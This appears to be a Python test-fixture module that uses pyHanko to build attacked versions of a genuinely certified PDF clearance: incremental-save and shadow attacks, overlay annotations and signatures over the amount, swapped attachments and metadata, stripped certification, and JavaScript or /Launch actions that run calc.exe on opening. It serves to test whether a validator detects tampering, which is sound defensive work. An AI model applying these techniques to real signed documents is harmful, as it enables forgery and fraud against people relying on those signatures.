"""Revisions appended to a genuine clearance: nothing signed is touched, and another thing is shown.

Incremental-save and shadow attacks, evil annotations and sneaky signatures on a certified file.
"""

from collections.abc import Callable

from attacks.material import Material, dictionary, first_page, text_stream, updated
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Writer = IncrementalPdfFileWriter


def page_rewritten(m: Material) -> bytes:
    """The first page prints something else."""

    def change(writer: Writer) -> None:
        page = first_page(writer)
        page["/Contents"] = writer.add_object(text_stream("Paid: 9999 rials"))
        writer.update_container(page)

    return updated(m.genuine, change)


def line_printed_over(m: Material) -> bytes:
    """A line is printed over the genuine content."""

    def change(writer: Writer) -> None:
        page = first_page(writer)
        added = writer.add_object(text_stream("Paid in full"))
        page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), added])
        writer.update_container(page)

    return updated(m.genuine, change)


def content_hidden(m: Material) -> bytes:
    """Shadow, hide: the stream that prints the page is emptied."""

    def change(writer: Writer) -> None:
        content = first_page(writer).raw_get("/Contents")
        _overwrite(writer, content, generic.StreamObject(stream_data=b""))

    return updated(m.genuine, change)


def font_replaced(m: Material) -> bytes:
    """Shadow, replace: a font is exchanged, so that the same codes draw other digits."""

    def change(writer: Writer) -> None:
        fonts = first_page(writer)["/Resources"]["/Font"]
        helvetica = dictionary(Type="/Font", Subtype="/Type1", BaseFont="/Helvetica")
        _overwrite(writer, fonts.raw_get(next(iter(fonts))), helvetica)

    return updated(m.genuine, change)


def document_behind_the_document(m: Material) -> bytes:
    """Shadow, hide and replace: a new page tree shows a document that was there all along."""

    def change(writer: Writer) -> None:
        page = writer.add_object(
            dictionary(
                Type="/Page",
                MediaBox=generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
                Contents=writer.add_object(text_stream("Paid: 9999 rials")),
            )
        )
        writer.root["/Pages"] = writer.add_object(
            dictionary(Type="/Pages", Kids=generic.ArrayObject([page]), Count=1)
        )
        writer.update_root()

    return updated(m.genuine, change)


def note_over_the_amount(m: Material) -> bytes:
    """Evil annotation: text that covers the amount."""
    return updated(m.genuine, _annotating(Subtype="/FreeText", Contents="9,999 rials", F=4))


def stamp_over_the_page(m: Material) -> bytes:
    """Evil annotation: a stamp over the page."""
    return updated(m.genuine, _annotating(Subtype="/Stamp", Name="/Approved", F=4))


def link_that_launches(m: Material) -> bytes:
    """A link over the page starts a program."""
    action = dictionary(S="/Launch", F="calc.exe")
    return updated(m.genuine, _annotating(Subtype="/Link", A=action))


def visible_signature_over_the_amount(m: Material) -> bytes:
    """Sneaky signature: another's signature whose picture covers the amount."""
    return m.seals["stranger, visible"](m.genuine)


def another_signature(m: Material) -> bytes:
    """A stranger approves the certified file, to nobody's sight."""
    return m.stranger(m.genuine)


def page_added(m: Material) -> bytes:
    """A second page with further obligations."""

    def change(writer: Writer) -> None:
        pages = writer.root["/Pages"]
        page = dictionary(
            Type="/Page",
            Parent=writer.root.raw_get("/Pages"),
            MediaBox=generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
            Contents=writer.add_object(text_stream("and all other contracts")),
        )
        pages["/Kids"].append(writer.add_object(page))
        pages["/Count"] = generic.NumberObject(len(pages["/Kids"]))
        writer.update_container(pages["/Kids"])
        writer.update_container(pages)

    return updated(m.genuine, change)


def page_removed(m: Material) -> bytes:
    """The page is taken away."""

    def change(writer: Writer) -> None:
        pages = writer.root["/Pages"]
        pages["/Kids"] = generic.ArrayObject()
        pages["/Count"] = generic.NumberObject(0)
        writer.update_container(pages)

    return updated(m.genuine, change)


def page_turned(m: Material) -> bytes:
    """The page is cut to a part of it."""

    def change(writer: Writer) -> None:
        page = first_page(writer)
        page["/MediaBox"] = generic.ArrayObject(map(generic.NumberObject, (0, 400, 595, 842)))
        writer.update_container(page)

    return updated(m.genuine, change)


def attachment_replaced(m: Material) -> bytes:
    """The attached data says another amount."""

    def change(writer: Writer) -> None:
        specification = writer.root["/Names"]["/EmbeddedFiles"]["/Names"][1]
        stream = generic.StreamObject(
            dictionary(Type="/EmbeddedFile"), stream_data=b'{"premium":{"amount_collected":1}}'
        )
        specification["/EF"]["/F"] = writer.add_object(stream)
        writer.update_container(specification)

    return updated(m.genuine, change)


def attachment_removed(m: Material) -> bytes:
    """The attached data is taken away."""

    def change(writer: Writer) -> None:
        del writer.root["/Names"]
        del writer.root["/AF"]
        writer.update_root()

    return updated(m.genuine, change)


def information_changed(m: Material) -> bytes:
    """The information dictionary names another title."""

    def change(writer: Writer) -> None:
        information = writer.trailer["/Info"]
        information["/Title"] = generic.TextStringObject("Clearance of another contract")
        writer.update_container(information)

    return updated(m.genuine, change)


def xmp_changed(m: Material) -> bytes:
    """The XMP packet is exchanged."""

    def change(writer: Writer) -> None:
        packet = dictionary(Type="/Metadata", Subtype="/XML")
        stream = generic.StreamObject(packet, stream_data=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>")
        writer.root["/Metadata"] = writer.add_object(stream)
        writer.update_root()

    return updated(m.genuine, change)


def script_on_opening(m: Material) -> bytes:
    """A script runs when the file is opened."""
    return updated(m.genuine, _opening(dictionary(S="/JavaScript", JS="app.alert('paid')")))


def program_on_opening(m: Material) -> bytes:
    """A program starts when the file is opened."""
    return updated(m.genuine, _opening(dictionary(S="/Launch", F="calc.exe")))


def script_by_name(m: Material) -> bytes:
    """A script is listed among the document's names, which runs it too."""

    def change(writer: Writer) -> None:
        script = dictionary(S="/JavaScript", JS="this.exportDataObject('clearance.json')")
        entries = generic.ArrayObject([generic.TextStringObject("a"), script])
        writer.root["/Names"]["/JavaScript"] = dictionary(Names=entries)
        writer.update_container(writer.root["/Names"])

    return updated(m.genuine, change)


def script_on_the_page(m: Material) -> bytes:
    """A script runs when the page is shown."""

    def change(writer: Writer) -> None:
        page = first_page(writer)
        page["/AA"] = dictionary(O=dictionary(S="/JavaScript", JS="app.alert('paid')"))
        writer.update_container(page)

    return updated(m.genuine, change)


def field_added(m: Material) -> bytes:
    """A form field asks for an account number."""

    def change(writer: Writer) -> None:
        form = writer.root["/AcroForm"]
        field = dictionary(FT="/Tx", T="Account", V="IR00")
        form["/Fields"].append(writer.add_object(field))
        writer.update_container(form["/Fields"])
        writer.update_container(form)

    return updated(m.genuine, change)


def seal_field_removed(m: Material) -> bytes:
    """The form with the seal is taken away."""

    def change(writer: Writer) -> None:
        del writer.root["/AcroForm"]
        writer.update_root()

    return updated(m.genuine, change)


def certification_removed(m: Material) -> bytes:
    """What forbids every change is taken away."""

    def change(writer: Writer) -> None:
        del writer.root["/Perms"]
        writer.update_root()

    return updated(m.genuine, change)


def evidence_removed(m: Material) -> bytes:
    """The validation evidence is taken away."""

    def change(writer: Writer) -> None:
        del writer.root["/DSS"]
        writer.update_root()

    return updated(m.genuine, change)


def _opening(action: generic.DictionaryObject) -> Callable[[Writer], None]:
    def change(writer: Writer) -> None:
        writer.root["/OpenAction"] = writer.add_object(action)
        writer.update_root()

    return change


def _annotating(**entries: generic.PdfObject | str | int) -> Callable[[Writer], None]:
    def change(writer: Writer) -> None:
        page = first_page(writer)
        corners = generic.ArrayObject(map(generic.NumberObject, (72, 300, 400, 420)))
        annotation = dictionary(Type="/Annot", Rect=corners, **entries)
        page["/Annots"].append(writer.add_object(annotation))
        writer.update_container(page["/Annots"])
        writer.update_container(page)

    return change


def _overwrite(writer: Writer, reference: generic.IndirectObject, value: generic.PdfObject) -> None:
    """Give an object number another value."""
    writer.objects[reference.generation, reference.idnum] = value
